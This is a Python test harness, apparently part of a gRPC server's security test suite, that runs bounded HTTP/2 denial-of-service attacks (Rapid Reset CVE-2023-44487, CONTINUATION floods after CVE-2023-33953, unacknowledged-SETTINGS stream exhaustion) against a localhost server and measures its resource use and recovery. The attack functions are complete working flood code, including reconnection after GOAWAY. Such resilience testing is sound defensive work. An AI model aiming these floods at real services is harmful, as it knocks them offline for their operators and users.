#!/usr/bin/python3
"""h2_attacks: published HTTP/2 denial-of-service attacks, bounded, against a
reco_server on 127.0.0.1, with the server's cost measured while they run.

    h2_attacks.py --port PORT --pid PID --attack ATTACK [--seconds 3] [--proto_dir DIR]

ATTACK is one of
  rapid_reset   CVE-2023-44487: on one connection, streams opened with HEADERS and a
                valid gRPC DATA frame (a 5-item request), each reset at once with
                RST_STREAM(CANCEL), as fast as the socket takes them.
  unacked_streams
                the same attack's other half: the server's SETTINGS never
                acknowledged, streams opened with HEADERS alone and held open until
                --seconds is up (SETTINGS_MAX_CONCURRENT_STREAMS binds a client only
                once acknowledged; gRPC 1.51 waits for that before it refuses any).
  continuation  CVE-2023-33953 style: one HEADERS frame without END_HEADERS, then
                CONTINUATION frames without end, each full of complete small headers
                (a header list that never ends).
  small_continuations
                CVE-2023-33953's third vector: the same, but each CONTINUATION frame
                carries ONE header of ~1 KiB, under the 8 KiB metadata limit per frame
                (1.51 checked the limit per frame, not per header list).
  endless_value CVE-2023-33953 style: one HEADERS frame without END_HEADERS that starts
                a literal header whose value claims 1 GiB, then CONTINUATION frames
                carrying that value for ever (a header value that never ends).

While the attack runs, a normal gRPC client (python3-grpcio, its own connection)
calls Recommend every --probe_interval with a --probe_deadline, and a sampler reads
the server's CPU time and VmRSS from /proc/PID. ServerStats (reset at the start) gives
the window's peak RSS and the store's leases. The "after" figures are read --settle
seconds after the attack, and, while RSS is over before + 32 MiB, up to --trim_wait
seconds later (after.trim: the wait and the samples). Prints one JSON object; see REPORT
below for its fields. The test (h2_attacks_test.sh) and scripts/http2_attacks.sh read it.

Bounded by --seconds (at most 120) and --max_streams / --max_bytes; connects only to
127.0.0.1. Needs protoc (protobuf-compiler) to make the Python messages at run time
(server_watch.py, beside this file, does the measuring).
"""
import argparse
import json
import os
import select
import socket
import struct
import sys
import threading
import time

import grpc
import hpack

sys.dont_write_bytecode = True  # no __pycache__ beside the sources for the import below
from server_watch import HOST, ProcSampler, Prober, get_stats, load_messages  # noqa: E402
import raw_http2_client  # noqa: E402 -- the hand-written RecommendRequest encoder

PATH = b"/reco.v1.Recommender/Recommend"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 8
REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def frame(kind, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", sid) + payload


def hpack_int(value, prefix_bits, first=0):
    """RFC 7541 5.1 integer with an N-bit prefix; `first` holds the pattern bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name_index, value, name=b""):
    """A literal header WITHOUT indexing (RFC 7541 6.2.2): no dynamic table entry,
    so the same block can be sent on every stream."""
    head = hpack_int(name_index, 4, 0x00)
    if name_index == 0:
        head += hpack_int(len(name), 7) + name
    return head + hpack_int(len(value), 7) + value


def request_headers_block():
    # Static table (RFC 7541 appendix A): 3 = :method POST, 6 = :scheme http,
    # 4 = :path, 1 = :authority, 31 = content-type.
    return (b"\x83\x86" + literal(4, PATH) + literal(1, b"127.0.0.1") +
            literal(31, b"application/grpc") + literal(0, b"trailers", b"te"))


def request_bytes():
    # The attacks' own valid request (5 compact items), built by raw_http2_client's encoder.
    return raw_http2_client.request_bytes(user=b"h2-attacks", items=5, profile=1, seed=9)


def grpc_message(message):
    return struct.pack(">BI", 0, len(message)) + message


class RawConnection:
    """One h2c connection: a reader thread answers SETTINGS (unless ack_settings is
    False) and PING, returns flow-control credit for what the server sends, tracks the
    send window the server grants, and counts what came back (GOAWAY, RST_STREAM,
    HEADERS, EOF)."""

    def __init__(self, port, ack_settings=True):
        self.ack_settings = ack_settings
        self.sock = socket.create_connection((HOST, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()  # one writer at a time
        self.cv = threading.Condition()
        self.send_window = 65535  # connection-level window the server gives us
        self.counts = {"goaway": 0, "rst_stream": 0, "headers": 0, "data_bytes": 0, "ping": 0, "settings": 0}
        self.goaway_error = None
        self.goaway_at = None
        self.closed_at = None
        self.closed_how = None
        self.closed_by_us = False  # a read error after our own close is not the server's
        self.statuses = []  # (grpc-status, grpc-message) of the first answers with one
        self.decoder = hpack.Decoder()
        self.t0 = time.monotonic()
        # SETTINGS: INITIAL_WINDOW_SIZE 16 MiB; plus 1 GiB of connection window.
        self._write(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 16 << 20)) +
                    frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        self.reader = threading.Thread(target=self._read_loop, daemon=True)
        self.reader.start()

    def _write(self, data):
        with self.lock:
            self.sock.sendall(data)

    def write_some(self, data, deadline):
        """Writes as much of data as the socket takes before deadline; returns bytes written."""
        sent = 0
        view = memoryview(data)
        with self.lock:
            while sent < len(data) and time.monotonic() < deadline and self.closed_at is None:
                _, w, _ = select.select([], [self.sock], [], 0.05)
                if not w:
                    continue
                try:
                    sent += self.sock.send(view[sent:])
                except (BrokenPipeError, ConnectionResetError) as e:
                    self._closed("send: " + type(e).__name__)
                    break
        return sent

    def _closed(self, how):
        with self.cv:
            if self.closed_at is None and not self.closed_by_us:
                self.closed_at = time.monotonic() - self.t0
                self.closed_how = how
            self.cv.notify_all()

    def _read_loop(self):
        buf = b""
        self.sock.settimeout(None)
        while True:
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError as e:
                self._closed("recv: " + type(e).__name__)
                return
            if not chunk:
                self._closed("eof")
                return
            buf += chunk
            replies = b""
            with self.cv:  # counts, statuses and the window are read by other threads
                while len(buf) >= 9:
                    length = int.from_bytes(buf[0:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags, sid = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload, buf = buf[9:9 + length], buf[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        self.counts["settings"] += 1
                        if self.ack_settings:
                            replies += frame(SETTINGS, ACK, 0)
                    elif kind == PING and not flags & ACK:
                        self.counts["ping"] += 1
                        replies += frame(PING, ACK, 0, payload)
                    elif kind == WINDOW_UPDATE and sid == 0:
                        self.send_window += int.from_bytes(payload, "big") & 0x7FFFFFFF
                    elif kind == DATA:
                        self.counts["data_bytes"] += length
                        if length:
                            replies += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", length))
                    elif kind == HEADERS:
                        self.counts["headers"] += 1
                        self._note_status(flags, payload)
                    elif kind == RST_STREAM:
                        self.counts["rst_stream"] += 1
                    elif kind == GOAWAY:
                        self.counts["goaway"] += 1
                        if self.goaway_at is None:
                            self.goaway_at = time.monotonic() - self.t0
                            self.goaway_error = int.from_bytes(payload[4:8], "big")
                self.cv.notify_all()
            if replies:
                try:
                    self._write(replies)
                except OSError:
                    pass

    def _note_status(self, flags, payload):
        # Every block goes through the decoder (it keeps the server's HPACK table);
        # PADDED (0x8) and PRIORITY (0x20) fields are stripped first.
        if flags & 0x8:
            payload = payload[1:len(payload) - payload[0]]
        if flags & 0x20:
            payload = payload[5:]
        try:
            fields = dict((k.decode() if isinstance(k, bytes) else k, v.decode() if isinstance(v, bytes) else v)
                          for k, v in self.decoder.decode(payload))
        except Exception:  # a block split over CONTINUATION frames: not needed here
            return
        if "grpc-status" in fields and len(self.statuses) < 3:
            self.statuses.append([int(fields["grpc-status"]), fields.get("grpc-message", "")])

    def take_window(self, n, deadline):
        """Waits until the server granted n bytes of connection window; False at deadline."""
        with self.cv:
            while self.send_window < n:
                if self.closed_at is not None or time.monotonic() >= deadline:
                    return False
                self.cv.wait(0.05)
            self.send_window -= n
            return True

    def wait_for_answer(self, at_least, at_most):
        """Sleeps at_least seconds, then up to at_most in all until the server answered
        (GOAWAY, RST_STREAM, HEADERS or a closed connection). A server slowed down (a
        sanitizer build, a busy machine) may still be working through what it was sent
        when the attack stops; its answer comes after that."""
        time.sleep(at_least)
        end = time.monotonic() + max(0.0, at_most - at_least)
        with self.cv:
            while (self.closed_at is None and not self.counts["goaway"] and not self.counts["rst_stream"]
                   and not self.counts["headers"] and time.monotonic() < end):
                self.cv.wait(0.05)

    def close(self):
        with self.cv:
            self.closed_by_us = True
        try:
            # shutdown first: close() alone leaves the connection open while the reader
            # thread is blocked in recv() (Linux keeps the socket until that returns),
            # so the server would go on holding what it took until this process exits.
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        try:
            self.sock.close()
        except OSError:
            pass

    def report(self):
        with self.cv:
            return {"goaway": self.counts["goaway"], "goaway_error": self.goaway_error,
                    "goaway_at_s": self.goaway_at, "closed_by_server": self.closed_at is not None,
                    "closed_at_s": self.closed_at, "closed_how": self.closed_how,
                    "rst_stream_received": self.counts["rst_stream"], "headers_received": self.counts["headers"],
                    "data_bytes_received": self.counts["data_bytes"], "pings_received": self.counts["ping"],
                    "first_grpc_statuses": list(self.statuses)}


def rapid_reset(port, seconds, max_streams):
    """HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL) per stream, in batches of 64 streams."""
    c = RawConnection(port)
    block = request_headers_block()
    body = grpc_message(request_bytes())
    batch_streams = 64
    streams, sid, written = 0, 1, 0
    deadline = time.monotonic() + seconds
    window_stalls = 0
    while time.monotonic() < deadline and streams < max_streams and c.closed_at is None:
        n = min(batch_streams, max_streams - streams)
        if not c.take_window(n * len(body), deadline):
            window_stalls += 1
            break
        out = bytearray()
        for _ in range(n):
            out += frame(HEADERS, END_HEADERS, sid, block)
            out += frame(DATA, END_STREAM, sid, body)
            out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
            sid += 2
        got = c.write_some(bytes(out), deadline)
        written += got
        if got < len(out):
            break
        streams += n
    elapsed = min(time.monotonic() - (deadline - seconds), seconds + 5)
    time.sleep(0.3)  # the server's answer to the last frames (a GOAWAY, a close)
    c.close()
    out = {"streams_sent": streams, "bytes_sent": written, "streams_per_s": streams / elapsed if elapsed else 0,
           "send_window_stalls": window_stalls, "attack_seconds": elapsed}
    out.update(c.report())
    return out


def unacked_streams(port, seconds, max_streams):
    """Never acknowledges the server's SETTINGS, and opens streams with HEADERS alone (a
    request whose message never comes), 256 per write, then holds them open until the
    time is up. SETTINGS_MAX_CONCURRENT_STREAMS binds a client only once it has
    acknowledged it; a server that waits for the acknowledgement before enforcing its
    limit lets every stream in (grpc/grpc#34638 made chttp2 refuse them, after 1.51)."""
    c = RawConnection(port, ack_settings=False)
    block = request_headers_block()
    streams, sid, written = 0, 1, 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and streams < max_streams and c.closed_at is None:
        n = min(256, max_streams - streams)
        out = b"".join(frame(HEADERS, END_HEADERS, sid + 2 * i, block) for i in range(n))
        got = c.write_some(out, deadline)
        written += got
        if got < len(out):
            break
        streams += n
        sid += 2 * n
    opened = time.monotonic() - (deadline - seconds)
    with c.cv:  # held open: the server keeps what it took for each stream meanwhile
        while c.closed_at is None and time.monotonic() < deadline:
            c.cv.wait(0.05)
    elapsed = min(time.monotonic() - (deadline - seconds), seconds + 5)
    c.close()
    out = {"streams_sent": streams, "bytes_sent": written, "streams_per_s": streams / opened if opened else 0,
           "attack_seconds": elapsed}
    out.update(c.report())
    return out


def header_flood(port, seconds, max_bytes, kind):
    """HEADERS without END_HEADERS, then CONTINUATION frames until the time is up."""
    c = RawConnection(port)
    start = request_headers_block()
    if kind == "endless_value":
        # A literal header "x-endless" whose value claims 1 GiB: every frame after this
        # one carries more of a value that never ends.
        start += hpack_int(0, 4, 0x00) + hpack_int(9, 7) + b"x-endless" + hpack_int(1 << 30, 7)
        piece = b"v" * 16384
    elif kind == "small_continuations":
        # One complete ~1 KiB header per frame, the frames sent 256 at a time.
        piece = literal(0, b"v" * 1000, b"x-flood")
    else:
        # Complete small headers, 16 KiB of them per frame: a header list without end.
        one = literal(0, b"v" * 20, b"x-flood")
        piece = one * (16384 // len(one))
    written = 0
    deadline = time.monotonic() + seconds
    got = c.write_some(frame(HEADERS, 0, 1, start), deadline)  # no END_HEADERS, no END_STREAM
    written += got
    cont = frame(CONTINUATION, 0, 1, piece) * (16 if len(piece) > 4096 else 256)
    t0 = deadline - seconds
    per_second = [0] * (int(seconds) + 1)  # bytes the server took in each second
    while time.monotonic() < deadline and written < max_bytes and c.closed_at is None:
        got = c.write_some(cont, min(deadline, time.monotonic() + 0.1))
        written += got
        per_second[min(int(time.monotonic() - t0), len(per_second) - 1)] += got
    elapsed = min(time.monotonic() - (deadline - seconds), seconds + 5)
    c.wait_for_answer(0.3, 10.0)  # a slowed server answers once it has read the backlog
    c.close()
    out = {"bytes_sent": written, "mb_per_s": written / elapsed / 1e6 if elapsed else 0, "attack_seconds": elapsed,
           "bytes_per_second": per_second[:max(1, int(elapsed))]}
    out.update(c.report())
    return out


def with_reconnects(attack, port, seconds, limit_key, limit):
    """Runs attack(port, seconds_left, limit_left) again on a new connection each time
    the server (or the proxy in front of it) closes one, until the time or the limit
    is spent: what an attacker does after a GOAWAY. The first connection's report,
    plus totals over all of them."""
    deadline = time.monotonic() + seconds
    first, totals = None, {"connections": 0, "connections_closed_by_server": 0, "goaways": 0}
    sent = {"streams_sent": 0, "bytes_sent": 0}
    while True:
        left = deadline - time.monotonic()
        if left <= 0.05 or sent[limit_key] >= limit:
            break
        try:
            out = attack(port, left, limit - sent[limit_key])
        except OSError:  # refused while the proxy closes: try again
            time.sleep(0.05)
            continue
        first = first or out
        totals["connections"] += 1
        totals["connections_closed_by_server"] += 1 if out["closed_by_server"] else 0
        totals["goaways"] += out["goaway"]
        for k in sent:
            sent[k] += out.get(k) or 0
        if not out["closed_by_server"]:
            break
    report = dict(first or {})
    report.update(sent)
    report.update(totals)
    report["attack_seconds"] = seconds
    report["streams_per_s"] = sent["streams_sent"] / seconds
    report["mb_per_s"] = sent["bytes_sent"] / seconds / 1e6
    return report


def wait_for_trim(sampler, quiet_rss, limit_s, step_s=0.25):
    """Samples RSS until it is at most quiet_rss or limit_s has passed. Memory the
    server freed stays in RSS until its trimmer (reco_server --trim_interval) hands it
    back, a few of its intervals later: a bound read at once would judge the trimmer's
    timing, not what the server holds. A server that holds the memory fails the bound
    anyway, only limit_s later. Returns the seconds waited and the samples taken."""
    t0, samples = time.monotonic(), [sampler.rss_bytes()]
    while samples[-1] > quiet_rss and time.monotonic() - t0 < limit_s and sampler.alive():
        time.sleep(step_s)
        samples.append(sampler.rss_bytes())
    return {"waited_s": time.monotonic() - t0, "rss_samples_bytes": samples, "limit_s": limit_s}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pid", type=int, required=True, help="the server's pid, for /proc")
    p.add_argument("--attack", required=True,
                   choices=["rapid_reset", "unacked_streams", "continuation", "small_continuations", "endless_value"])
    p.add_argument("--seconds", type=float, default=3.0)
    p.add_argument("--max_streams", type=int, default=10_000_000)
    p.add_argument("--max_bytes", type=int, default=8 << 30)
    p.add_argument("--probe_interval", type=float, default=0.2)
    p.add_argument("--probe_deadline", type=float, default=1.0)
    p.add_argument("--settle", type=float, default=1.0, help="seconds after the attack before the 'after' figures")
    p.add_argument("--trim_wait", type=float, default=0.0,
                   help="after --settle, seconds to wait at most for RSS to fall under before + 32 MiB "
                        "(the server's trimmer returns freed memory to the OS on its own interval)")
    p.add_argument("--recover", type=float, default=30.0,
                   help="seconds to wait after the attack for a normal call to succeed")
    p.add_argument("--proto_dir", default=os.path.join(REPO, "proto"))
    p.add_argument("--reconnect", action="store_true",
                   help="open a new connection each time one is closed, until --seconds: an attacker behind a proxy")
    p.add_argument("--stats_port", type=int, default=0,
                   help="where ServerStats is read (default --port): the backend's own port behind a proxy")
    a = p.parse_args()
    if not 0 < a.seconds <= 120:
        p.error("--seconds must be in (0, 120]")

    reco_pb2, stats_pb2 = load_messages(a.proto_dir)
    sampler = ProcSampler(a.pid)
    # The reference reply, before any attack: the reply is a function of the request.
    prober = Prober(a.port, request_bytes(), a.probe_interval, a.probe_deadline, None)
    what, expected = prober.once()
    if what != "ok":
        print(json.dumps({"error": f"the server did not answer before the attack ({what})"}))
        sys.exit(1)
    prober.expected = expected
    stats_port = a.stats_port or a.port
    stats_before = get_stats(stats_port, stats_pb2, reset=True)
    rss_before, cpu_before = sampler.rss_bytes(), sampler.cpu_seconds()
    sampler.thread.start()
    prober.thread.start()
    t0 = time.monotonic()
    if a.attack in ("rapid_reset", "unacked_streams"):
        one = rapid_reset if a.attack == "rapid_reset" else unacked_streams
        limit_key, limit = "streams_sent", a.max_streams
    else:
        def one(port, seconds, max_bytes):
            return header_flood(port, seconds, max_bytes, a.attack)
        limit_key, limit = "bytes_sent", a.max_bytes
    if a.reconnect:
        attack = with_reconnects(one, a.port, a.seconds, limit_key, limit)
    else:
        attack = one(a.port, a.seconds, limit)
    attack_wall = time.monotonic() - t0
    cpu_attack = sampler.cpu_seconds() - cpu_before
    prober.stop.set()
    prober.thread.join()
    # How long after the attack until a normal call is answered again: a server still
    # working through what the attack left queued answers late (bounded by --recover).
    recovery = {"first_ok_after_s": None, "failed_calls": 0}
    t_end = time.monotonic()
    while time.monotonic() - t_end < a.recover and sampler.alive():
        if prober.once()[0] == "ok":
            recovery["first_ok_after_s"] = time.monotonic() - t_end
            break
        recovery["failed_calls"] += 1
    time.sleep(a.settle)
    trim = wait_for_trim(sampler, rss_before + (32 << 20), a.trim_wait)
    sampler.stop.set()
    sampler.thread.join()
    alive = sampler.alive()
    after = {"alive": alive, "recovery": recovery, "trim": trim}
    if alive:
        after["rss_bytes"] = sampler.rss_bytes()
        after["cpu_seconds"] = sampler.cpu_seconds() - cpu_before
        final_what, final_reply = prober.once()
        after["final_probe"] = final_what
        if final_reply is not None:
            after["final_items"] = len(reco_pb2.RecommendResponse.FromString(final_reply).items)
        try:
            s = get_stats(stats_port, stats_pb2, reset=False)
        except grpc.RpcError as e:  # a server still busy with what the attack left
            s = None
            after["stats_error"] = str(e.code())
        if s is not None:
            after["stats"] = {"peak_rss_bytes": s.peak_rss_bytes, "rss_bytes": s.rss_bytes,
                              "cpu_user_seconds": s.cpu_user_seconds, "cpu_system_seconds": s.cpu_system_seconds,
                              "rpcs": s.rpcs, "rpc_errors": s.rpc_errors, "store_acquired": s.store.acquired,
                              "store_created": s.store.created, "store_unpooled": s.store.unpooled,
                              "store_idle": s.store.idle, "store_in_use": s.store.in_use,
                              "heap_in_use_bytes": s.malloc_heap.in_use_bytes if s.malloc_heap.available else None}
    # REPORT: the attack's own figures (attack), the server's cost (server), the probes.
    report = {"attack_name": a.attack, "mode": stats_before.mode, "seconds": a.seconds, "attack": attack,
              "server": {"rss_before_bytes": rss_before, "rss_peak_sampled_bytes": max(sampler.peak_rss, rss_before),
                         "cpu_seconds_during_attack": cpu_attack, "attack_wall_seconds": attack_wall},
              "after": after,
              "probes": {"ok": prober.ok, "timeouts": prober.timeouts, "errors": prober.errors,
                         "wrong_reply": prober.wrong, "worst_ok_seconds": prober.worst_ok_s,
                         "interval_s": a.probe_interval, "deadline_s": a.probe_deadline,
                         "expected_items": len(reco_pb2.RecommendResponse.FromString(expected).items)}}
    print(json.dumps(report))


if __name__ == "__main__":
    main()
